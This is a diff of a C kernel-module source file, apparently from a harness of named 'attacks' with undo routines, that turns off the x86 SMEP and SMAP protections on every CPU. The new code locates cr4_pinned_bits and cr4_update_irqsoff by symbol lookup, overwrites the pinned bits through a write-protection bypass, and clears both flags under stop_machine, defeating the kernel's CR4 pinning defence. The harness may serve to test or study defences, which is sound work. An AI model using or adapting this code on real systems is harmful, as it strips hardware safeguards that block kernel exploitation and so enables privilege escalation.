@@ -1,27 +1,54 @@
 // SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
-/* CR4.SMEP and CR4.SMAP of each CPU are off and stay so. */
+/*
+ * CR4.SMEP and CR4.SMAP of each CPU are off and stay so.
+ *
+ * Written to the register alone that lasts for moments: where a processor has no INVPCID, the kernel
+ * writes CR4 anew from its copy (cpu_tlbstate.cr4) with each global flush of translations, which
+ * loading a module already asks for, and it puts the bits that it pinned (cr4_pinned_bits,
+ * arch/x86/kernel/cpu/common.c) into whatever it writes. So the bits are taken out of what is pinned
+ * first, and then the kernel's own function clears them in copy and register.
+ */
 #include "attack.h"
 
-static void set(void *on)
-{
-	unsigned long cr4, bits = X86_CR4_SMEP | X86_CR4_SMAP;
+#include <linux/stop_machine.h>
 
-	asm volatile("mov %%cr4, %0" : "=r"(cr4));
-	cr4 = on ? cr4 | bits : cr4 & ~bits;
-	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
+#define BITS (X86_CR4_SMEP | X86_CR4_SMAP)
+
+static void (*update)(unsigned long set, unsigned long clear);
+static unsigned long *pinned;
+static unsigned long original;
+
+/*
+ * On all CPUs while nothing else runs on any: the kernel warns of bits that are not as they are pinned
+ * when it writes CR4.
+ */
+static int set(void *on)
+{
+	unsigned long pins = on ? original : original & ~BITS;
+
+	write_protected(pinned, &pins, sizeof(pins));
+	if (on)
+		update(BITS, 0);
+	else
+		update(0, BITS);
+	return 0;
 }
 
 static int attack(void)
 {
 	if (!boot_cpu_has(X86_FEATURE_SMEP) || !boot_cpu_has(X86_FEATURE_SMAP))
 		return -ENODEV;
-	on_each_cpu(set, NULL, 1);
-	return 0;
+	update = function("cr4_update_irqsoff", *update);
+	pinned = (unsigned long *)symbol("cr4_pinned_bits");
+	if (!update || !pinned)
+		return -ENOENT;
+	original = *pinned;
+	return stop_machine(set, NULL, cpu_online_mask);
 }
 
 static void undo(void)
 {
-	on_each_cpu(set, (void *)1, 1);
+	stop_machine(set, (void *)1, cpu_online_mask);
 }
 
 ATTACK("CR4.SMEP and CR4.SMAP off on all CPUs");
